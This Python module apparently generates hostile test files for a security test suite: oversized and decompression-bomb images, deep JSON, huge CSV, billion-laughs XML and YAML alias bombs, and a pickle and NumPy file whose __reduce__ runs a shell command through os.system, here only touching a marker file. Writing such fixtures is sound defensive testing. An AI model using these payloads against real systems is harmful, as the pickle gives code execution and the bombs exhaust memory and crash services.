"""Pictures, pickles and texts that grow, as setup steps; see ``inside``."""

import os
import pickle
import struct
import zlib
from typing import Any

from attacks.inside import put, write


def png_dims(name: str, width: int, height: int) -> None:
    """A picture; only its head where the pixels would be many."""
    rows = (b"\0" + bytes(width * 3)) * height if width * height <= 4_000_000 else bytes(100)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b""))
    parts = [struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
             for kind, data in chunks]  # fmt: skip
    put(name, b"\x89PNG\r\n\x1a\n" + b"".join(parts))


def png_text(name: str, size: int = 64 << 20) -> None:
    """A picture with a compressed comment that grows large."""
    png_dims(name, 2, 2)
    with open(name, "rb") as file:
        content = file.read()
    data = b"c\0\0" + zlib.compress(bytes(size), 9)
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    put(name, content[:33] + chunk + content[33:])


def gif_frames(name: str, count: int, width: int = 8, height: int = 8) -> None:
    frame = b"!\xf9\4\4\1\0\0\0,\0\0\0\0" + struct.pack("<HH", width, height) + b"\0\2\2\x44\1\0"
    head = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0\0\0\0\xff\xff\xff"
    put(name, head + frame * count + b";")


def gif_dims(name: str, width: int, height: int) -> None:
    gif_frames(name, 1, width, height)


def bmp_dims(name: str, width: int, height: int) -> None:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    put(name, b"BM" + struct.pack("<IHHI", 54 + 100, 0, 0, 54) + head + bytes(100))


class Evil:
    """Leaves a file where it is unpickled."""

    def __reduce__(self) -> Any:
        return os.system, ("touch UNPICKLED; touch $HOME/files/UNPICKLED",)


def write_pickle(name: str, *_more: object) -> None:
    put(name, pickle.dumps(Evil()))


def write_npy_object(name: str, *_more: object) -> None:
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += " " * (63 - (len(head) + 10) % 64) + "\n"
    put(name, b"\x93NUMPY\1\0" + struct.pack("<H", len(head)) + head.encode() + pickle.dumps([Evil()]))


def json_deep(name: str, depth: int = 100_000) -> None:
    put(name, b"[" * depth + b"]" * depth)


def csv_wide(name: str, columns: int = 1_000_000, rows: int = 2) -> None:
    put(name, (",".join(map(str, range(columns))) + "\n").encode() * rows)


def csv_rows(name: str, rows: int) -> None:
    put(name, b"a,b\n" + b"1,2\n" * rows)


def xml_bomb(name: str, levels: int = 10) -> None:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(levels))
    write(name, f"<!DOCTYPE x [{entities}]><x>&e{levels - 1};</x>")


def yaml_bomb(name: str, levels: int = 10) -> None:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    write(name, "\n".join(lines))
